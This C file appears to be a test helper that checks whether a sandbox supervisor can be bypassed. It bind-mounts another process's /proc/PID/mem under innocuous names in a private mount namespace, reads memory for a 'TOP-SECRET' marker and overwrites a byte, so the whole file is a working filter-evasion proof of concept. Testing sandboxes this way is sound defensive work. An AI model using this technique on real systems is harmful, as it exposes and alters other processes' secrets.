/* rev34-bind-mem.c - a program run by execve under a hardened program's
 * filter (not our process): it puts another process's memory file under
 * other names in a mount namespace of its own and opens it there.
 *
 * rev34-bind-mem PID ADDR: reads 31 bytes of PID's memory at ADDR (hex)
 * and writes "X" over the byte after the first. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <unistd.h>

#include "helper-steps.h"

int main(int argc, char **argv) {
  if (argc < 3)
    return 2;
  setvbuf(stdout, NULL, _IONBF, 0);
  char mem[64], own[64], dir[64], buf[32] = {0};
  snprintf(mem, sizeof mem, "/proc/%s/mem", argv[1]);
  off_t at = (off_t)strtoull(argv[2], NULL, 16);
  /* The control: under its own name the supervisor refuses it. */
  int fd = open(mem, O_RDONLY);
  printf("helper: plain open of %s: %s\n", mem,
         fd < 0 ? strerror(errno) : "opened");
  if (fd >= 0)
    close(fd);
  if (!step(!unshare(CLONE_NEWNS), "unshare(CLONE_NEWNS)") ||
      !step(!mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL),
            "mount private") ||
      !step(!mount("none", "/tmp", "tmpfs", 0, NULL), "mount tmpfs /tmp") ||
      !step(touch("/tmp/foo"), "create /tmp/foo") ||
      !step(!mount(mem, "/tmp/foo", NULL, MS_BIND, NULL), "bind mem"))
    return 1;
  /* Read: the name read back is /tmp/foo, not a "mem" file. */
  fd = open("/tmp/foo", O_RDONLY);
  if (step(fd >= 0, "open /tmp/foo") && pread(fd, buf, 31, at) > 0 &&
      !strncmp(buf, "TOP-SECRET", 10))
    printf("ATTACK SUCCEEDED: read '%s' through %s bound at /tmp/foo\n", buf,
           mem);
  if (fd >= 0)
    close(fd);
  /* Write: under /proc/<own pid>/ on a tmpfs over /proc, the name reads
   * as a file of the caller's own. */
  snprintf(dir, sizeof dir, "/proc/%d", (int)getpid());
  snprintf(own, sizeof own, "/proc/%d/foo", (int)getpid());
  if (!step(!mount("none", "/proc", "tmpfs", 0, NULL), "mount tmpfs /proc") ||
      !step(!mkdir(dir, 0700), "mkdir") || !step(touch(own), "create") ||
      !step(!mount("/tmp/foo", own, NULL, MS_BIND, NULL), "bind again"))
    return 1;
  fd = open(own, O_RDWR);
  if (step(fd >= 0, "open for writing") && pwrite(fd, "X", 2, at + 1) == 2)
    printf("helper: wrote into %s through %s\n", mem, own);
  return 0;
}
